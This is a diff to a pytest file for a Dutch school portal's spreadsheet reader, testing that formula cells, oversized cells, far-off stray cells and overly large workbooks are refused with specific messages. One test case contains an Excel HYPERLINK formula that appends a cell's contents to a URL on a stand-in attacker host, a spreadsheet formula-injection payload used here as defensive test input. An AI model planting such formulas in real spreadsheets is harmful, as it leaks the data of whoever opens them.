@@ -10,7 +10,7 @@ import pytest
 from openpyxl.workbook.defined_name import DefinedName
 
 from portal.lijsten.reader import (
-    Bestandsfout, FormuleZonderWaarde, Foutwaarde, Limieten, assert_defusedxml, kolomindex,
+    FORMULE_ZONDER_WAARDE, Bestandsfout, Foutwaarde, Limieten, assert_defusedxml, kolomindex,
     kolomletter, read_sheet,
 )
 from tests import hostile
@@ -155,21 +155,50 @@ def test_1904_date_system():
     assert read_sheet(data_1900).rijen[1][0] == datetime.date(2009, 7, 6)
 
 
-def test_error_values_and_formulas_without_value():
+def test_error_values_are_read_as_error_values():
     xml = hostile.sheet_xml(hostile.rows({
         1: {"A": "BSN", "B": "Klas"},
-        2: {"A": ("e", "#N/A"), "B": ("f", "VLOOKUP(A2,X!A:B,2,0)")},
+        2: {"A": ("e", "#N/A"), "B": "4A"},
         3: {"A": ("e", "#REF!"), "B": "4B"},
     }))
     rijen = read_sheet(hostile.xlsx({"Leerlingen": xml})).rijen
-    assert rijen[1][0] == Foutwaarde("#N/A")
-    assert isinstance(rijen[1][1], FormuleZonderWaarde)
+    assert rijen[1] == [Foutwaarde("#N/A"), "4A"]
     assert rijen[2] == [Foutwaarde("#REF!"), "4B"]
 
 
-def test_formula_with_cached_value_gives_the_value():
-    xml = hostile.sheet_xml('<row r="1"><c r="A1"><f>1+1</f><v>2</v></c></row>')
-    assert read_sheet(hostile.xlsx({"Leerlingen": xml})).rijen == [[2]]
+def _bericht(fout) -> str:
+    from portal.lijsten.errors import Bevinding
+    return Bevinding(fout.code, params=dict(fout.params)).bericht
+
+
+@pytest.mark.parametrize("formule", [
+    '<f>HYPERLINK("http://evil.example/?x="&amp;B2,"mevr. De Vries")</f><v>mevr. De Vries</v>',   # cached value
+    "<f>VLOOKUP(A2,X!A:B,2,0)</f>",                                                                 # none
+    '<f t="shared" si="0"/><v>2</v>',                                                                # shared
+])
+def test_a_formula_cell_is_named_by_its_cell_and_refuses_the_list(formule):
+    from portal.lijsten.formats import FORMATS
+    from portal.lijsten.validate import check_bytes
+    fmt = FORMATS["VO-overstapper"]
+    mentor = fmt.titels.index("Mentor")
+    titels = "".join(f'<c r="{kolomletter(j)}1" t="inlineStr"><is><t>{t}</t></is></c>' for j, t in enumerate(fmt.titels))
+    xml = hostile.sheet_xml(f'<row r="1">{titels}</row><row r="2"><c r="A2" t="inlineStr"><is><t>L1</t></is></c>'
+                            f'<c r="{kolomletter(mentor)}2" t="str">{formule}</c></row>')
+    data = hostile.xlsx({"Leerlingen": xml})
+    assert read_sheet(data).rijen[1][mentor] is FORMULE_ZONDER_WAARDE
+    resultaat = check_bytes(data, fmt)
+    [b] = [b for b in resultaat.fouten if b.code == "formula_without_value"]
+    assert (b.rij, b.kolom, b.cel) == (2, "Mentor", f"{kolomletter(mentor)}2")
+    assert b.bericht.startswith("Mentor bevat een formule (rij 2); een leerlinglijst mag alleen waarden bevatten.")
+    assert not resultaat.ok
+
+
+def test_formulas_among_the_titles_refuse_the_file_naming_the_cells():
+    grid = {1: {"A": "Klas", **{kolomletter(j): ("f", "1+1") for j in range(1, 8)}}, 2: {"A": "4B"}}
+    fout = refused(hostile.xlsx({"Leerlingen": hostile.sheet_xml(hostile.rows(grid))}))
+    assert (fout.code, fout.params["soort"]) == ("formula_without_value", "formule_titel")
+    assert fout.params["cellen"] == "B1, C1, D1, E1, F1 en nog 2 andere"
+    assert _bericht(fout).startswith("Het bestand wordt niet gelezen: de kolomtitels bevatten formules, in cel B1")
 
 
 def test_merged_hidden_rows_and_marker():
@@ -305,21 +334,98 @@ def test_a_cell_as_long_as_excel_allows_is_read(maak):
     assert sheet.rijen[1][1] == "x" * 32_767
 
 
-def test_the_cell_length_limit_is_configurable_and_holds_without_the_c_module(monkeypatch):
-    from portal.lijsten import reader
+def test_the_cell_length_limit_is_configurable():
     data = _csv_met_cel("x" * 21)
     assert refused(data, Limieten(max_cell_chars=20)).params["soort"] == "cel_te_lang"
     assert read_sheet(data, Limieten(max_cell_chars=21)).rijen[1][1] == "x" * 21
-    monkeypatch.setattr(reader, "_snel", None)
-    assert refused(data, Limieten(max_cell_chars=20)).params["soort"] == "cel_te_lang"
     assert refused(_xlsx_met_cel("x" * 21), Limieten(max_cell_chars=20)).params["soort"] == "cel_te_lang"
     assert read_sheet(_xlsx_met_cel("x" * 21), Limieten(max_cell_chars=21)).rijen[1][1] == "x" * 21
 
 
-def test_a_field_the_csv_module_refuses_without_the_c_module_is_named_without_a_cell(monkeypatch):
-    from portal.lijsten import reader
-    from portal.lijsten.errors import Bevinding
-    monkeypatch.setattr(reader, "_snel", None)
+def test_a_field_over_the_csv_modules_field_limit_is_named_by_its_cell():
     fout = refused(_csv_met_cel("x" * 200_000))
-    assert (fout.code, fout.params["soort"]) == ("file_corrupt", "waarde_te_lang")
-    assert "een waarde in van meer dan 32.767 tekens" in Bevinding(fout.code, params=dict(fout.params)).bericht
+    assert (fout.code, fout.params["soort"], fout.params["cel"]) == ("file_corrupt", "cel_te_lang", "B2")
+
+
+# --- a stray cell far away (#11.8) ------------------------------------------------------------------
+@pytest.mark.parametrize("maak, cel", [(hostile.far_cell, "XFD1048576"), (hostile.far_cell_in_first_row, "A1048576")])
+def test_a_stray_cell_far_away_is_named_with_what_to_do(maak, cel):
+    fout = refused(maak())
+    assert (fout.code, fout.params["soort"], fout.params["cel"]) == ("file_corrupt", "verre_cel", cel)
+    bericht = _bericht(fout)
+    assert f"in cel {cel}" in bericht and "Verwijder die cel" in bericht
+    assert "beschadigd" not in bericht
+
+
+# --- work bounded by cells (#10.2) -----------------------------------------------------------------
+def test_a_sheet_with_more_cells_than_allowed_is_refused_before_it_is_read():
+    grid = {r: {kolomletter(j): r * j for j in range(10)} for r in range(1, 21)}      # 200 cells
+    data = hostile.xlsx({"Leerlingen": hostile.sheet_xml(hostile.rows(grid))})
+    fout = refused(data, Limieten(max_cells=199))
+    assert (fout.code, fout.params["soort"]) == ("file_too_large", "te_veel_cellen")
+    assert "meer dan 199 cellen" in _bericht(fout)
+    assert len(read_sheet(data, Limieten(max_cells=200)).rijen) == 20
+
+
+def test_a_sheet_larger_than_allowed_unpacked_is_refused_by_its_declared_size():
+    data = hostile.xlsx()
+    fout = refused(data, Limieten(max_sheet_bytes=100))
+    assert (fout.code, fout.params["soort"]) == ("file_too_large", "te_veel_cellen")
+
+
+def test_the_many_cell_workbook_is_refused_quickly_in_bounded_memory(tmp_path):
+    """F-2: 42,000 rows × 200 numbers in about 20 MB. Refused with its code, the process growing
+    far less than 500 MB (measured in a child process: calamine's memory is not Python's)."""
+    import json, subprocess, sys
+    pad = tmp_path / "veel_cellen.xlsx"
+    pad.write_bytes(hostile.many_cells())
+    assert pad.stat().st_size < Limieten().max_bytes
+    script = (
+        "import json, resource, sys, time\n"
+        "from portal.lijsten.reader import read_sheet, Bestandsfout\n"
+        "data = open(sys.argv[1], 'rb').read()\n"
+        "voor = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        "t = time.perf_counter()\n"
+        "try:\n    read_sheet(data); code = None\n"
+        "except Bestandsfout as e:\n    code = [e.code, e.params.get('soort')]\n"
+        "print(json.dumps({'code': code, 'seconden': time.perf_counter() - t,\n"
+        "    'groei_mb': (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - voor) / 1024}))\n")
+    uit = subprocess.run([sys.executable, "-c", script, str(pad)], capture_output=True, text=True, check=True)
+    meting = json.loads(uit.stdout)
+    assert meting["code"] == ["file_too_large", "te_veel_cellen"]
+    assert meting["groei_mb"] < 500, meting
+
+
+# --- fastexcel's columns and python-calamine's cells agree --------------------------------------------
+def test_a_plain_sheet_read_through_fastexcel_equals_python_calamines_cells():
+    from portal.lijsten import reader
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "Leerlingen"
+    ws.append(["Leerlingnummer", "Geboortedatum", "Leerjaar", "Mentor", "Actief", "Tijd", None, "Leeg"])
+    for i in range(30):
+        ws.append([f"L{i:03d}", datetime.date(2010, 1, 1 + i % 28), i % 6 + 1, None if i % 3 else "mevr. X",
+                   bool(i % 2), datetime.datetime(2010, 5, 3, 10, i), None, None])
+    data = _openpyxl_bytes(wb)
+    snel, langste = reader._fastexcel_kolommen(data, "Leerlingen")
+    assert langste == len("Leerlingnummer")
+    cellen = reader._normalise(reader._calamine(data, "Leerlingen"))
+    assert reader._normalise(zip(*snel)) == [r[:len(snel)] for r in cellen]
+
+
+@pytest.mark.parametrize("waarde", [5, 5.5, datetime.date(2010, 5, 3), True])
+def test_a_column_of_text_with_one_other_value_keeps_each_cell_as_typed(waarde):
+    wb = _simple_wb()
+    wb.active.append(["L2", "3-5-2010", waarde])
+    wb.active.append(["L3", waarde, "4"])
+    rijen = read_sheet(_openpyxl_bytes(wb)).rijen
+    assert rijen[2][1:] == ["3-5-2010", int(waarde) if type(waarde) is int else waarde]
+    assert rijen[3][1:] == [waarde if type(waarde) is not int else waarde, "4"]
+
+
+def test_a_sheet_that_starts_below_a1_keeps_its_positions_through_either_reader():
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws["B2"], ws["C2"], ws["B3"], ws["C3"] = "Leerlingnummer", "Klas", "L1", "4B"
+    assert read_sheet(_openpyxl_bytes(wb)).rijen == [[None, None, None], [None, "Leerlingnummer", "Klas"],
+                                                       [None, "L1", "4B"]]
